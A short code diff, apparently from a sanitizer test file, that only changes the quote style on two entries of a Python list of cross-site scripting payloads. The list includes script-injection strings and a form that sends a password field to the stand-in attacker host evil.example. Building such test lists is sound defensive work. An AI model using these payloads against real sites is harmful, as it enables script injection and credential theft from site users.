@@ -15,10 +15,10 @@ XSS_PAYLOADS = [
     '<p style="background:url(javascript:alert(1))" onclick="alert(1)">text</p>',
     '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
     '<a href="data:text/html,<script>alert(1)</script>">x</a>',
-    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
     '<form action="https://evil.example/"><input name="password"></form>',
     '<body onload="alert(1)">',
-    '<<script>script>alert(1)<</script>/script>',
+    "<<script>script>alert(1)<</script>/script>",
     '<img src="vbscript:msgbox(1)">',
     "<!--<script>alert(1)</script>-->",
 ]
